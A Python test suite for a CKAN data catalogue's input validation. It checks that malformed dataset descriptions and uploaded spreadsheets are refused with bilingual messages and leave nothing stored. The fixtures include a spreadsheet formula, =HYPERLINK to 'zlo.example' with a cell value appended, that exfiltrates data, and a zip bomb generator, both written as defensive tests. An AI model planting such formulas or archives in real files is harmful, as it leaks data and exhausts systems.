"""Bad input by every road it can come: one clear sentence in Slovene and in English, and nothing half-written.

Each line of the two tables is one kind of bad input. A description comes through the Action API (over HTTP, created and
replaced) and as a JSON file to ``kranj-validate``; a file comes through the import of tables and to ``kranj-validate``.
"""

import base64
import copy
import csv
import io
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from ckan import model
from ckan.lib.search import make_connection
from ckan.tests import factories

from schemas import texts
from schemas.exchange import row_of, write_workbook

POLYGON = '{"type": "Polygon", "coordinates": [[[14, 46], [15, 46], [15, 146], [14, 46]]]}'


def put(path, value):
    """A change that sets what the path names; ``.`` between keys and indices."""

    def change(record):
        *way, last = [int(part) if part.isdigit() else part for part in path.split(".")]
        holder = record
        for part in way:
            holder = holder[part]
        holder[last] = value

    return change


DESCRIPTIONS = {
    "a wrong code": (put("frequency", "vcasih"), "frequency", "unknown-code"),
    "a wrong code on a resource": (put("resources.0.format", "TXTX"), "resources[0].format", "unknown-code"),
    "a wrong shape": (put("contact", "Ana Novak"), "contact", "shape"),
    "a wrong shape within": (put("title_translated", ["Parkirišča"]), "title_translated", "shape"),
    "a wrong shape of resources": (put("resources", "datoteka.csv"), "resources", "shape"),
    "an unknown key on the dataset": (put("lokacija", "omara"), "lokacija", "unknown-key"),
    "an unknown key on a resource": (put("resources.0.location", "x"), "resources[0].location", "unknown-key"),
    "an unknown key in a subfield": (put("contact.0.oddelek", "x"), "contact[0].oddelek", "unknown-key"),
    "an unknown key in the internal block": (put("internal.predal", "x"), "internal.predal", "unknown-key"),
    "HTML": (put("notes_translated.sl", "<p>Opis <b>parkirišč</b> v mestu, dovolj dolg.</p>"),
             "notes_translated.sl", "html"),
    "a title of 1 MB": (put("title_translated.sl", "Parkirišča " * 100_000), "title_translated.sl", "too-long"),
    "a description of 100 kB": (put("notes_translated.sl", "Opis. " * 17_000), "notes_translated.sl", "too-long"),
    "control characters": (put("title_translated.sl", "Parki\x07rišča\x00 v mestu"), "title_translated.sl",
                           "control-characters"),
    "a date that is not there": (put("issued", "31. 2. 2026"), "issued", "not-a-date"),
    "the same in ISO": (put("issued", "2026-02-31"), "issued", "not-a-date"),
    "a reversed period": (put("temporal_coverage", [{"start": "2026-05-01", "end": "2025-05-01"}]),
                          "temporal_coverage[0].end", "reversed-period"),
    "a polygon outside the world": (put("spatial_coverage", [{"text": "Kranj", "geom": POLYGON}]),
                                    "spatial_coverage[0].geom", "outside-the-world"),
    "secrecy against access rights": (put("access_rights", "NON_PUBLIC"), "access_rights", "access-rights-contradict"),
    "TAJNO": (put("secrecy", "ztp-tajno"), "secrecy", "classified-refused"),
    "half a character": (put("title_translated.sl", "Parkiri\ud800ča v mestu"), "title_translated.sl",
                         "control-characters"),
    "STROGO TAJNO in words": (put("secrecy", "STROGO TAJNO"), "secrecy", "classified-refused"),
}  # fmt: skip
"""Kind: (change of a complete description, path of the problem, its code)."""

NOT_IN_CELLS = {
    "a wrong shape", "a wrong shape within", "a wrong shape of resources", "an unknown key on the dataset",
    "an unknown key on a resource", "an unknown key in the internal block", "a title of 1 MB",
    "a description of 100 kB", "control characters", "half a character",
}  # fmt: skip
"""What a workbook cannot hold: a cell has no shape, ends at 32,767 characters, and XML knows no control characters."""


def workbook(record, change):
    book = openpyxl.load_workbook(io.BytesIO(write_workbook([record])))
    change(book["Zbirke"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def cell(sheet, name, row=3):
    return sheet.cell(row, [item.value for item in sheet[1]].index(name) + 1)


def comma_separated(record, change=lambda rows: None, encoding="utf-8"):
    cells = {"id": record["id"], **row_of(record), "resources": json.dumps(record["resources"])}
    rows = [list(cells), list(cells.values())]
    change(rows)
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(rows)
    return out.getvalue().encode(encoding)


def formula(sheet):
    cell(sheet, "version").value = '=HYPERLINK("http://zlo.example/?"&A1)'


def merged(sheet):
    place = cell(sheet, "version")
    sheet.merge_cells(start_row=3, end_row=4, start_column=place.column, end_column=place.column)


def twice(sheet):
    for at in range(1, sheet.max_column + 1):
        sheet.cell(4, at).value = sheet.cell(3, at).value


def unknown_column(sheet):
    sheet.cell(1, sheet.max_column + 1).value = "lokacija"
    sheet.cell(3, sheet.max_column).value = "omara"


def long_title(rows):
    rows[1][rows[0].index("title_translated.sl")] = "Parkirišča " * 100_000


def bomb(record):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 100_000_000)
    return out.getvalue()


FILES = {
    "formulas in cells": ("a.xlsx", lambda record: workbook(record, formula), "version", "formula"),
    "merged cells": ("a.xlsx", lambda record: workbook(record, merged), "version", "merged-cells"),
    "a zip bomb as XLSX": ("a.xlsx", bomb, "", "zip-bomb"),
    "text as XLSX": ("a.xlsx", lambda record: b"naziv;opis", "", "unreadable-file"),
    "duplicate identifiers": ("a.xlsx", lambda record: workbook(record, twice), "id", "duplicate-row"),
    "duplicate identifiers in a CSV": ("a.csv", lambda record: comma_separated(
        record, lambda rows: rows.append(rows[1])), "id", "duplicate-row"),
    "an unknown column": ("a.xlsx", lambda record: workbook(record, unknown_column), "lokacija", "unknown-key"),
    "the same column twice": ("a.csv", lambda record: comma_separated(
        record, lambda rows: [row.append(row[1]) for row in rows]), None, "duplicate-table-column"),
    "control characters in a CSV": ("a.csv", lambda record: comma_separated(
        {**record, "version": "1\x07\x002"}), "version", "control-characters"),
    "a title of 1 MB in a CSV": ("a.csv", lambda record: comma_separated(record, long_title), "title_translated.sl",
                                 "too-long"),
    "cp1250": ("a.csv", lambda record: comma_separated(record, encoding="cp1250"), "", "source-charset"),
}  # fmt: skip
"""Kind: (name of the file, its bytes, path of the problem, its code)."""


@pytest.fixture
def record(complete_dataset):
    """A complete description that is in the catalogue already."""
    return complete_dataset


class Road:
    """The portal over HTTP as a steward's program uses it, and everything that it holds."""

    def __init__(self, app, record):
        self.app = app
        user = factories.Sysadmin()
        self.headers = {"Authorization": factories.APIToken(user=user["name"])["token"]}
        answer = self.call("package_create", record)
        assert answer.status_code == 200, answer.body
        self.dataset = answer.json["result"]

    def call(self, action, data, lang="", **options):
        body = data if isinstance(data, bytes) else json.dumps(data).encode()
        headers = {"Content-Type": "application/json", **self.headers}
        return self.app.post(f"{lang}/api/3/action/{action}", data=body, headers=headers, **options)

    def named(self, record):
        """A description with the ids of the stored one."""
        rows = zip(record["resources"], self.dataset["resources"], strict=True)
        resources = [{**row, "id": stored["id"]} for row, stored in rows]
        return {**record, "id": self.dataset["id"], "resources": resources}

    def held(self):
        """Rows of every table but those that remember files and readers, the stored description, the index."""
        model.Session.rollback()
        tables = sa.inspect(model.meta.engine).get_table_names()
        tables = [name for name in tables if not name.startswith(("kranj_batch", "alembic", "spatial"))]
        counts = {
            name: model.Session.execute(sa.text(f'SELECT count(*) FROM "{name}"')).scalar()  # noqa: S608 own names
            for name in tables
        }
        stored = self.call("package_show", {"id": self.dataset["id"]}).json["result"]
        block = model.Session.execute(sa.text("SELECT package_id, revision, data::text FROM kranj_internal")).all()
        indexed = make_connection().search("*:*", rows=100, fl="id,index_id,metadata_modified").docs
        rows = model.Session.execute(sa.text("SELECT id, state, extras::text FROM package ORDER BY id")).all()
        return counts, stored, block, sorted(map(str, indexed)), rows


@pytest.fixture
def road(catalogue, record):
    return Road(catalogue, copy.deepcopy(record))


def clear(code, words, remedies):
    """Something is said in each language, not the same, with the remedy."""
    for lang in ("sl", "en"):
        assert words[lang], (code, lang)
        assert texts()[code]["remedy"][lang].partition("{")[0] in remedies[lang], (code, lang, remedies)
    assert words["sl"] != words["en"], words
    assert texts()[code]["remedy"]["sl"] != texts()[code]["remedy"]["en"]


def message(errors, path, code):
    """The words under a field in CKAN's dictionary of errors."""
    head, _, inner = path.partition(".")
    name, _, index = head.partition("[")
    found = errors[name]
    if name == "resources" and index and inner:
        found = errors["resources"][int(index.rstrip("]"))][inner.partition(".")[0]]
    elif inner or index:
        found = [text for text in found if f"{path}:" in text]
    (words,) = [text for text in found if text.startswith(f"[{code}] ")]
    return words


def validated(tmp_path, name, content):
    """What the installed command says of a file: exit status, problems."""
    program = shutil.which("kranj-validate", path=str(Path(sys.executable).parent))
    (tmp_path / name).write_bytes(content)
    done = subprocess.run([program, "--format", "json", name], cwd=tmp_path, capture_output=True, check=False)  # noqa: S603
    assert done.stderr == b""
    return done.returncode, [problem for item in json.loads(done.stdout)[name] for problem in item["problems"]]


def told(problems, path, code):
    """The problem at its place (any place when None), with its words."""
    found = [item for item in problems if item["code"] == code and path in (None, item["path"])]
    assert found, [(item["path"], item["code"]) for item in problems]
    clear(code, found[0]["text"], found[0]["remedy"])
    return found[0]


@pytest.mark.parametrize("kind", DESCRIPTIONS)
@pytest.mark.parametrize("action", ["package_create", "package_update"])
def test_a_bad_description_over_the_api(road, record, kind, action):
    change, path, code = DESCRIPTIONS[kind]
    before = road.held()
    change(record)
    sent = record if action == "package_create" else {**record, "id": road.dataset["id"]}
    words = {}
    for lang in ("sl", "en"):
        answer = road.call(action, sent, "/en" if lang == "en" else "")
        assert answer.status_code == 409, answer.body[:500]
        words[lang] = message(answer.json["error"], path, code)
    clear(code, words, words)
    assert road.held() == before


@pytest.mark.parametrize("kind", DESCRIPTIONS)
def test_a_bad_description_in_a_file(tmp_path, record, kind):
    change, path, code = DESCRIPTIONS[kind]
    change(record)
    status, problems = validated(tmp_path, "a.json", json.dumps(record).encode())
    assert status == 1
    told(problems, path, code)


@pytest.mark.parametrize("kind", [kind for kind in DESCRIPTIONS if kind not in NOT_IN_CELLS])
def test_a_bad_description_in_a_workbook(road, tmp_path, record, kind):
    change, path, code = DESCRIPTIONS[kind]
    before = road.held()
    change(record)
    content = write_workbook([road.named(record)])
    batch = road.call("kranj_batch_create", {"name": "a.xlsx", "content": base64.b64encode(content).decode()})
    assert batch.status_code == 200, batch.body[:500]
    (row,) = batch.json["result"]["result"]
    assert row["action"] == "refused"
    told(row["problems"], path, code)
    done = road.call("kranj_batch_apply", {"id": batch.json["result"]["id"], "wait": True})
    assert done.json["result"]["progress"] == {}
    assert road.held() == before
    status, problems = validated(tmp_path, "a.xlsx", content)
    assert status == 1
    told(problems, path, code)


@pytest.mark.parametrize("kind", FILES)
def test_a_bad_file(road, tmp_path, record, kind):
    name, make, path, code = FILES[kind]
    before = road.held()
    content = make(road.named(record))
    batch = road.call("kranj_batch_create", {"name": name, "content": base64.b64encode(content).decode()})
    assert batch.status_code == 200, batch.body[:500]
    found = batch.json["result"]
    problems = [*found["problems"], *(problem for row in found["result"] for problem in row["problems"])]
    only_warned = told(problems, path, code)["severity"] == "warning"
    assert found["rows"].get("changed", 0) + found["rows"].get("new", 0) == 0
    assert only_warned or not set(found["rows"]) - {"refused", "unchanged"}
    done = road.call("kranj_batch_apply", {"id": found["id"], "wait": True})
    assert done.json["result"]["progress"] == {}
    assert road.held() == before
    status, problems = validated(tmp_path, name, content)
    told(problems, path, code)
    assert status == (0 if only_warned else 1)


@pytest.mark.parametrize("encoding", ["cp1250", "utf-16", "utf-16-le", "utf-8-sig"])
def test_a_table_in_another_encoding_is_read_whole(road, tmp_path, record, encoding):
    """Old programs write them: what was meant is understood, nothing differs from what is stored."""
    content = comma_separated(road.named(record), encoding=encoding)
    batch = road.call("kranj_batch_create", {"name": "a.csv", "content": base64.b64encode(content).decode()})
    assert batch.json["result"]["rows"] == {"unchanged": 1}, batch.json["result"]
    assert validated(tmp_path, "a.csv", content)[0] == 0


def test_a_request_in_cp1250(road, record):
    """JSON is UTF-8 (RFC 8259): the answer says so, in both languages. UTF-16 with its mark is understood."""
    before = road.held()
    body = json.dumps(record, ensure_ascii=False)
    words = {}
    for lang in ("sl", "en"):
        answer = road.call("package_create", body.encode("cp1250"), "/en" if lang == "en" else "")
        assert answer.status_code == 400
        words[lang] = answer.json["error"]["message"]
    clear("unreadable-request", words, words)
    assert road.held() == before
    read = road.call("package_update", json.dumps({**record, "id": road.dataset["id"]}).encode("utf-16"))
    assert read.json["result"]["title"] == record["title_translated"]["sl"]


@pytest.mark.parametrize("content", [b"\x00PK", "č".encode("cp1250") * 50, '{"title": "č"'.encode("utf-16")])
@pytest.mark.parametrize("name", ["a.json", "a.ttl", "a.xlsx", "a.csv"])
def test_what_is_no_description_at_all(tmp_path, name, content):
    status, problems = validated(tmp_path, name, content)
    assert status == 1
    for problem in problems:
        clear(problem["code"], problem["text"], problem["remedy"])
